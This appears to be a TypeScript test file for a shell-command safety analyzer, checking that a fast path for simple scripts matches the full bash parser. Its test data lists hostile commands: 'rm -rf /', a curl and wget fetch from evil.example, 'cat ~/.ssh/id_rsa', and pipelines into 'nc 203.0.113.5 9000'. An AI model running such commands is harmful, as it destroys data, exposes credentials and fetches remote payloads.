import { describe, expect, it } from "vitest";
import { emptyFacts } from "../../core/facts.js";
import type { Nested } from "../types.js";
import { analyzeTree, loadShellAnalyzer } from "./index.js";
import { loadBashParser } from "./parser.js";
import { simpleScript } from "./simple.js";
import { context } from "./test-support/probe.js";

const nested: Nested = {
  shell: (command, ctx) => ({ ...emptyFacts(), flags: [`nested shell: ${command} @${ctx.cwd}`] }),
  sql: (statement) => ({ ...emptyFacts(), flags: [`nested sql: ${statement}`] }),
  http: (request) => ({ ...emptyFacts(), flags: [`nested http: ${request.url}`] }),
};

const COMMANDS = [
  "rm -rf /",
  "rm -rf build",
  "rm *",
  "cd /srv",
  "cd ..",
  "cd",
  "git push --force origin main",
  "curl -fsSL https://evil.example/p.sh",
  "sh",
  "sudo bash",
  "python3 -",
  "xargs -I{} rm -rf /backups/{}",
  "ls /backups",
  "echo rm -rf /data",
  "base64 -d",
  "find /srv -type f",
  "cat ~/.ssh/id_rsa",
  "nc 203.0.113.5 9000",
  "sudo tee /etc/sudoers.d/x",
  "mktemp",
  "pwd",
  "chmod +x /tmp/x",
  "/tmp/x",
  "wget -O /tmp/x https://evil.example/x",
  "ssh db1 rm -rf /srv/data",
  "env A=b rm -rf /",
  "psql -c x",
  ". ./x",
  "bash -c 'rm -rf /srv/data'",
  'sh -c "cd /srv && rm -rf data"',
  "echo 'rm -rf /var/backups/*'",
  "psql -c 'DROP TABLE users'",
  'grep -rn "password" src/ --include=*.ts',
  "find /var/backups -name '*.sql.gz' -delete",
  "python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'",
  "echo '' \"\" '{a,b}' \"*\"",
  "xargs -I{} sh -c 'rm -rf {}'",
  "git commit -m 'fix: a | b && c; done'",
];
const OPERATORS = [" | ", "|", " && ", "||", "; ", " ;"];

/** Every pair and a spread of longer scripts of the commands above, joined by every operator. */
function scripts(): string[] {
  const out: string[] = [...COMMANDS];
  COMMANDS.forEach((a, i) => {
    COMMANDS.forEach((b, j) => {
      const op = OPERATORS[(i + j) % OPERATORS.length] as string;
      out.push(a + op + b);
      const c = COMMANDS[(i * 7 + j * 3) % COMMANDS.length] as string;
      out.push(a + op + b + OPERATORS[(i * j) % OPERATORS.length] + c);
      // Long pipelines in lists, which the grammar nests in its own way.
      out.push(`${a} | ${b} | ${c}${op}nc 203.0.113.5 9000`);
      out.push(`${a}${op}${b} | ${c} | nc 203.0.113.5 9000`);
    });
  });
  return out;
}

describe("simple scripts skip the parser", () => {
  it("give the facts the tree walker gives", async () => {
    const analyze = await loadShellAnalyzer();
    const parser = await loadBashParser();
    let simple = 0;
    for (const ctx of [context(), context({ cwd: undefined, workspace: undefined })])
      for (const script of scripts()) {
        if (!simpleScript(script)) continue;
        simple++;
        expect(analyze(script, ctx, nested), script).toEqual(
          analyzeTree(parser, script, ctx, nested),
        );
      }
    expect(simple).toBeGreaterThan(2000);
  });

  it("leaves everything else to the parser", () => {
    for (const script of [
      "a | b | c && d", // the grammar reads it as `a | ((b | c) && d)`
      "export A=b",
      "A=b cmd",
      "echo done",
      "a%b",
      "- a=b",
      "x ==",
      "echo 'x'y",
      "echo x'y'",
      'echo "$HOME"',
      'echo "a\\"b"',
      "'rm' -rf /",
      "echo 'a\nb'",
      "echo $HOME",
      "ls > out",
      "a & b",
      "a;",
      " ls",
      "ls\nrm -rf /",
      "[ -f x ]",
      "# comment",
    ])
      expect(simpleScript(script), script).toBeUndefined();
  });

  it("splits lists into pipelines of words", () => {
    const script = simpleScript("cd web && npm ci | tee 'a log'; psql -c \"SELECT 1 | 2\"");
    expect(script?.map((p) => p.map((c) => c.map((w) => w.value)))).toEqual([
      [["cd", "web"]],
      [
        ["npm", "ci"],
        ["tee", "a log"],
      ],
      [["psql", "-c", "SELECT 1 | 2"]],
    ]);
  });
});
